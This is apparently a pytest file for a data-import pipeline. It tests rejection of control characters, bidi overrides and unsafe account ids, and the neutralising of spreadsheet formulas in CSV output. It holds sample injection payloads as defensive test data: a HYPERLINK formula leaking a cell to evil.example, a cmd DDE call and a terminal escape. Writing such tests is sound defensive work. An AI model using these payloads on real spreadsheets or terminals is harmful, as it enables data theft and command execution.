"""Hostile text at import: the API's character and length rules, URL-safe account ids,
normalised names, and CSV outputs that a spreadsheet never runs as formulas."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pandas as pd
import pytest

from churn.settings import Settings
from churn.text import (
    ACCOUNT_ID_RE,
    UNPRINTABLE,
    csv_cell,
    csv_frame,
    normalise_name,
    visible,
)
from features.sources import read_source
from features.validate import load_validated, validate_tables

HEADER = "account_id,name,account_manager,started_at,industry,contract_value\n"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _accounts(tmp_path: Path, rows: list[list[str]]) -> Path:
    """An accounts.csv holding ``rows`` (cells written with the csv module, quoted as needed)."""
    folder = tmp_path / "data"
    folder.mkdir(exist_ok=True)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADER.strip().split(","))
    writer.writerows(rows)
    (folder / "accounts.csv").write_text(out.getvalue(), encoding="utf-8")
    return folder


def _row(account_id: str = "A-1", **cells: str) -> list[str]:
    values = {
        "name": "Acme",
        "account_manager": "Drew Hollis",
        "started_at": "2020-01-01",
        "industry": "law",
        "contract_value": "1000",
    } | cells
    return [account_id, *values.values()]


HOSTILE = [
    # (label, row, column, reason fragment)
    ("bidi override in a name", _row("A-2", name="Acme\u202eevil"), "name", "text-direction"),
    (
        "escape sequence in a manager",
        _row("A-3", account_manager="Ann\x1b[31m"),
        "account_manager",
        "control",
    ),
    ("NUL in an id", _row("A-4\x00"), "account_id", "control"),
    (
        "zero-width space in a manager",
        _row("A-5", account_manager="Drew\u200bHollis"),
        "account_manager",
        "control or text-direction",
    ),
    ("200,000-character name", _row("A-6", name="x" * 200_000), "name", "longer than 200"),
    ("129-character id", _row("A" * 129), "account_id", "longer than 128"),
    ("slash in an account id", _row("A/7"), "account_id", "URL-safe"),
    ("space in an account id", _row("A 8"), "account_id", "URL-safe"),
    ("question mark in an account id", _row("A-9?x=1"), "account_id", "URL-safe"),
    ("dot-dot account id", _row(".."), "account_id", "URL-safe"),
    ("percent in an account id", _row("A%2F10"), "account_id", "URL-safe"),
    ("line separator in an industry", _row("A-11", industry="law\u2028x"), "industry", "control"),
]


def test_ids_and_names_breaking_the_api_rules_are_rejects_naming_the_rule(tmp_path):
    rows = [_row("A-1"), *(row for _, row, _, _ in HOSTILE)]
    result = validate_tables(read_source(_accounts(tmp_path, rows)), reject_threshold=1.0)

    assert result.tables.accounts["account_id"].tolist() == ["A-1"]
    rejects = result.rejects.set_index("row")
    for position, (label, _, column, reason) in enumerate(HOSTILE, start=1):
        line = rejects.loc[position]
        assert line["column"] == column, label
        assert reason in line["reason"], (label, line["reason"])
    summary = result.summary.set_index("table").loc["accounts"]
    assert (summary["rows"], summary["loaded"], summary["rejected"]) == (
        len(rows),
        1,
        len(HOSTILE),
    )


def test_reject_values_show_control_characters_as_escapes_and_are_cut(tmp_path):
    rows = [_row("A-1", name="x" * 200_000), _row("A-2", account_manager="Ann\x1b]0;pwned\x07")]
    result = validate_tables(read_source(_accounts(tmp_path, rows)), reject_threshold=1.0)

    long, escaped = result.rejects["value"].tolist()
    assert len(long) < 1_100 and long.endswith("(199,000 more characters)")
    assert escaped == "Ann\\x1b]0;pwned\\x07"


def test_names_are_normalised_so_a_no_break_space_is_the_same_manager(tmp_path):
    rows = [
        _row("A-1", account_manager="Drew Hollis"),
        _row("A-2", account_manager="Drew\u00a0Hollis"),  # no-break space
        _row("A-3", account_manager="  Drew   Hollis "),
        _row("A-4", account_manager="Ｄｒｅｗ Hollis", name="Beta\u3000Co"),  # full-width
    ]
    result = validate_tables(read_source(_accounts(tmp_path, rows)), reject_threshold=1.0)

    accounts = result.tables.accounts
    assert result.rejects.empty
    assert set(accounts["account_manager"]) == {"Drew Hollis"}
    assert accounts["name"].tolist()[-1] == "Beta Co"


def test_usual_ids_stay_valid_account_ids():
    for account_id in ("A-00042", "007", "acme.uk", "crm:1234", "x_1~2", "Z"):
        assert ACCOUNT_ID_RE.fullmatch(account_id), account_id
    for account_id in ("A/1", "A 1", "-1", ".hidden", "Société", "A#1", ""):
        assert not ACCOUNT_ID_RE.fullmatch(account_id), account_id


def test_normalise_name_and_the_unprintable_rule():
    assert normalise_name("\u00a0Drew \t Hollis\u2003") == "Drew Hollis"
    assert normalise_name("ﬁrm") == "firm"
    for text in ("a\x00", "a\x85", "a\u202e", "a\u2066", "a\u200e", "a\ufeff", "a\u2060"):
        assert UNPRINTABLE.search(text), repr(text)
    for text in ("Société", "O'Brien", "İstanbul", "محمد\u200cرضا"):  # ZWNJ stays allowed
        assert not UNPRINTABLE.search(text), text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("-1e3", "-1e3"),
        (-4, -4),
        (float("nan"), ""),
        (pd.NA, ""),
        (pd.NaT, ""),
        ("Acme", "Acme"),
    ],
)
def test_csv_cells_never_start_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_csv_frame_changes_text_cells_only():
    frame = pd.DataFrame(
        {
            "name": [HYPERLINK, "Acme", None],
            "note": pd.array(["@SUM(1)", pd.NA, "-7"], dtype="string"),
            "value": [-1.5, 2.0, float("nan")],
        }
    )
    out = csv_frame(frame)
    assert out["name"].tolist()[:2] == ["'" + HYPERLINK, "Acme"]
    assert out["note"].tolist()[0] == "'@SUM(1)" and out["note"].tolist()[2] == "-7"
    assert out["value"].equals(frame["value"])
    assert frame["name"][0] == HYPERLINK  # the input is left as it was
    clean = pd.DataFrame({"name": ["Acme"], "value": [1.0]})
    assert csv_frame(clean) is clean


def test_visible_escapes_terminal_controls():
    assert visible("a\x1b]0;pwned\x07b") == "a\\x1b]0;pwned\\x07b"
    assert visible("x\u202ey\tz\n") == "x\\u202ey\tz\n"
    assert visible("x\ny", keep_newlines=False) == "x\\ny"


def test_the_rejects_file_neutralises_formulas_and_is_private(tmp_path):
    rows = [
        _row("A-1"),
        _row("A-2", started_at=HYPERLINK),
        _row("A-3", contract_value="@SUM(1+1)*cmd|' /C calc'!A0"),
        _row("A-4", contract_value="-5"),  # below the minimum: a negative number stays one
    ]
    settings = Settings(rejects_dir=tmp_path / "rejects", reject_threshold=1.0)
    result = load_validated(_accounts(tmp_path, rows), settings)

    assert result.rejects_path is not None
    with result.rejects_path.open(newline="", encoding="utf-8") as fh:
        values = [line["value"] for line in csv.DictReader(fh)]
    assert values == ["'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0", "-5"]
    assert stat.S_IMODE(result.rejects_path.stat().st_mode) == 0o600
